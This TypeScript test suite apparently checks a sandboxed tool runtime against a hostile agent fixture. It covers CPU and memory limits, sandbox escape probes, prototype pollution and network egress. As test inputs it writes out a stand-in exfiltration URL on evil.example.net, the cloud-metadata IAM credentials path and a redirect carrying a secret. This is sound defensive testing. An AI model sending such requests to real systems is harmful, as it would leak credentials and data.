import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DaemonNotifications, DaemonRequests } from '../../src/protocol/daemon';
import { RpcPeer } from '../../src/protocol/jsonRpc';
import type { RunRecord, StepRecord } from '../../src/runtime/store/checkpointStore';
import { REPO_ROOT, spawnNode, testEnv, within, type NodeProcess } from '../support/processes';

const DAEMON = join(REPO_ROOT, 'dist', 'daemon.js');
const HOSTILE = join(REPO_ROOT, 'test', 'fault', 'fixtures', 'hostile.agent.ts');

type NoRequests = Record<never, never>;
type NoNotifications = Record<never, never>;

/** The runtime process as the extension starts it (with --no-node-snapshot), spoken to over JSON-RPC. */
class RuntimeProcess {
  private readonly proc: NodeProcess;
  private readonly peer: RpcPeer<NoRequests, DaemonRequests, DaemonNotifications, NoNotifications>;
  private readonly finished = new Map<string, (run: RunRecord) => void>();
  private readonly done = new Map<string, RunRecord>();

  constructor(workspace: string, env: NodeJS.ProcessEnv) {
    // spawnNode puts its first argument right after node: a Node flag there works like a script.
    this.proc = spawnNode('--no-node-snapshot', [DAEMON], { cwd: workspace, env });
    this.peer = new RpcPeer((line) => this.proc.child.stdin.write(line), {});
    this.peer.onNotification((method, event) => {
      if (method !== 'runEvent' || event.type !== 'run_finished') return;
      this.done.set(event.run.id, event.run);
      this.finished.get(event.run.id)?.(event.run);
    });
    this.proc.child.stdout.on('data', (chunk: string) => this.peer.receive(chunk));
    void this.proc.exited.then((exit) => this.peer.close(`The runtime process exited (${String(exit.code ?? exit.signal)}):\n${this.proc.stderr()}`));
  }

  get alive(): boolean {
    return this.proc.child.exitCode === null && this.proc.child.signalCode === null;
  }

  request<M extends keyof DaemonRequests & string>(method: M, params: DaemonRequests[M]['params']): Promise<DaemonRequests[M]['result']> {
    return within(this.peer.request(method, params), `an answer to ${method}`);
  }

  /** Starts a run of the hostile agent and waits for it to end; returns its record and steps. */
  async run(input: unknown): Promise<{ run: RunRecord; steps: StepRecord[] }> {
    const { runId } = await this.request('startRun', { agentFile: HOSTILE, input: JSON.stringify(input) });
    await within(
      new Promise<RunRecord>((resolve) => {
        const known = this.done.get(runId);
        if (known) resolve(known);
        else this.finished.set(runId, resolve);
      }),
      `run ${runId} finishing`,
      30_000,
    );
    return this.request('getRun', { runId });
  }

  async stop(): Promise<void> {
    if (this.alive) this.proc.child.kill('SIGKILL');
    await this.proc.exited;
  }

  stderr(): string {
    return this.proc.stderr();
  }
}

interface TestServer {
  readonly origin: string;
  readonly port: number;
  readonly hits: string[];
  close(): Promise<void>;
}

async function startServer(handle: (path: string) => { status: number; headers?: Record<string, string>; body?: string }): Promise<TestServer> {
  const hits: string[] = [];
  const server: Server = createServer((request, response) => {
    hits.push(request.url ?? '');
    const answer = handle(request.url ?? '');
    response.writeHead(answer.status, answer.headers);
    response.end(answer.body ?? '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    port,
    hits,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

describe('hostile tools in the runtime process', function () {
  this.timeout(120_000);
  let workspace: string;
  let allowedServer: TestServer;
  let deniedServer: TestServer;
  let runtime: RuntimeProcess;
  let pid: number | undefined;

  before(async () => {
    assert.ok(existsSync(DAEMON), 'dist/daemon.js is missing: run `npm run build` before the tests');
    deniedServer = await startServer(() => ({ status: 200, body: 'the other server: nothing here may reach me' }));
    allowedServer = await startServer((path) =>
      path === '/to-denied'
        ? { status: 302, headers: { location: `${deniedServer.origin}/collect?secret=42` } }
        : { status: 200, body: 'hello from the allowed server' },
    );
    // One runtime process for the whole suite, so its workspace outlives each test.
    workspace = mkdtempSync(join(tmpdir(), 'keel-hostile-'));
    runtime = new RuntimeProcess(workspace, testEnv({ ALLOWED_ORIGIN: allowedServer.origin }));
    await runtime.request('initialize', { workspaceRoot: workspace });
  });

  after(async () => {
    await runtime.stop();
    await allowedServer.close();
    await deniedServer.close();
    rmSync(workspace, { recursive: true, force: true });
  });

  /**
   * Runs one call of `tool`, then a well-behaved sandboxed tool and a host-side check in the same
   * run, and returns the hostile step. The runtime process must still be the same one, serving.
   */
  async function attack(tool: string, args?: unknown): Promise<StepRecord> {
    const { run, steps } = await runtime.run({ call: tool, ...(args === undefined ? {} : { args }) });
    const detail = `${tool}: ${JSON.stringify(steps.map((step) => [step.seq, step.name, step.status, step.error]))}\nstderr:\n${runtime.stderr()}`;
    assert.equal(run.state, 'completed', detail);
    const byName = (name: string) => steps.find((step) => step.kind === 'tool' && step.name === name);
    const hostile = byName(tool);
    assert.ok(hostile, detail);
    const add = byName('add');
    assert.equal(add?.status, 'completed', `a normal sandboxed call after ${tool} works: ${detail}`);
    assert.deepEqual((add.output as { value: unknown }).value, { sum: 5, leftovers: [null, null, false] }, 'in a fresh context');
    const check = byName('host_check');
    assert.equal(check?.status, 'completed', detail);
    const host = (check.output as { value: { pid: number; objectClean: boolean; arrayClean: boolean } }).value;
    assert.deepEqual({ objectClean: host.objectClean, arrayClean: host.arrayClean }, { objectClean: true, arrayClean: true }, 'host built-ins untouched');
    pid ??= host.pid;
    assert.equal(host.pid, pid, 'the same runtime process served every run');
    assert.ok(runtime.alive);
    return hostile;
  }

  function assertStopped(step: StepRecord, message: RegExp): void {
    assert.equal(step.status, 'failed', `${step.name} should fail; it returned ${JSON.stringify(step.output)}`);
    assert.match(step.error ?? '', message);
    assert.deepEqual(
      step.failedAttempts.map((attempt) => attempt.class),
      ['never'],
      'a sandbox stop is tried once and never retried',
    );
  }

  it('an infinite loop is stopped at its CPU limit', async () => {
    assertStopped(await attack('infinite_loop'), /^infinite_loop failed: it exceeded its 100 ms CPU limit, so the sandbox stopped it$/);
  });

  it('a memory bomb is stopped at its memory limit', async () => {
    assertStopped(await attack('memory_bomb'), /^memory_bomb failed: it used more than 16 MB of memory, so the sandbox stopped it$/);
  });

  it('deep recursion runs out of stack inside the isolate', async () => {
    assertStopped(await attack('deep_recursion'), /^deep_recursion failed: it ran out of stack \(its recursion went too deep\) in the sandbox$/);
  });

  it('require, process and import() do not exist', async () => {
    assertStopped(await attack('require_probe'), /^require_probe failed: it used `require`, which does not exist in the sandbox: sandboxed tools get no Node APIs$/);
    assertStopped(await attack('process_probe'), /^process_probe failed: it used `process`, which does not exist in the sandbox: sandboxed tools get no Node APIs$/);
    assertStopped(await attack('import_probe'), /^import_probe failed: it tried to import a module(?: \(.*\))?, but sandboxed code has no module loader/);
  });

  it('constructor.constructor climbs only to the isolate, where there is no process', async () => {
    assertStopped(await attack('constructor_climb'), /^constructor_climb failed: it used `process`, which does not exist in the sandbox/);
  });

  it('polluting the prototypes of its arguments stays inside its own context', async () => {
    const step = await attack('prototype_pollution', { payload: { note: 'hi' } });
    assert.equal(step.status, 'completed');
    assert.deepEqual((step.output as { value: unknown }).value, { polluted: 'yes' }, 'it polluted its own copy; the checks above show nobody else saw it');
  });

  it('a huge output is a tool error', async () => {
    const step = await attack('huge_output');
    assert.equal(step.status, 'failed');
    assert.equal(step.error, 'huge_output returned 3 MB of output, more than its limit of 1 MB (maxOutputBytes).');
  });

  it('a fetch to a host not allowed fails the call even when the tool swallows the error', async () => {
    assertStopped(
      await attack('fetch_elsewhere', { url: 'https://evil.example.net/collect?data=secret' }),
      /^fetch_elsewhere failed: it tried to reach evil\.example\.net, which its egress allow-list does not permit$/,
    );
  });

  it('a fetch to 127.0.0.1, not listed, is denied', async () => {
    assertStopped(
      await attack('fetch_elsewhere', { url: `${allowedServer.origin}/hello` }),
      new RegExp(`^fetch_elsewhere failed: it tried to reach 127\\.0\\.0\\.1:${allowedServer.port}, which its egress allow-list does not permit$`),
    );
    assertStopped(
      await attack('fetch_any_host', { url: `${allowedServer.origin}/hello` }),
      new RegExp(`^fetch_any_host failed: it tried to reach 127\\.0\\.0\\.1:${allowedServer.port}, a loopback address, which its egress allow-list does not permit`),
    );
  });

  it('a fetch to the cloud metadata address 169.254.169.254 is denied', async () => {
    assertStopped(
      await attack('fetch_any_host', { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
      /^fetch_any_host failed: it tried to reach 169\.254\.169\.254, a link-local \(cloud metadata\) address, which its egress allow-list does not permit/,
    );
  });

  it('a fetch to the listed server works, and its redirect to a server not listed is denied', async () => {
    const fine = await attack('fetch_allowed', { url: `${allowedServer.origin}/hello` });
    assert.equal(fine.status, 'completed', fine.error ?? '');
    assert.deepEqual((fine.output as { value: unknown }).value, { status: 200, body: 'hello from the allowed server', redirected: false });
    assertStopped(
      await attack('fetch_allowed', { url: `${allowedServer.origin}/to-denied` }),
      new RegExp(
        `^fetch_allowed failed: it followed a redirect from ${escape(allowedServer.origin)}/to-denied and tried to reach 127\\.0\\.0\\.1 on port ${deniedServer.port}, which its egress allow-list does not permit`,
      ),
    );
  });

  it('nothing reached a server it was not allowed to reach', () => {
    assert.deepEqual(deniedServer.hits, [], 'the server not listed was never contacted');
    assert.deepEqual([...allowedServer.hits].sort(), ['/hello', '/to-denied'], 'only the permitted requests reached the listed server');
  });
});
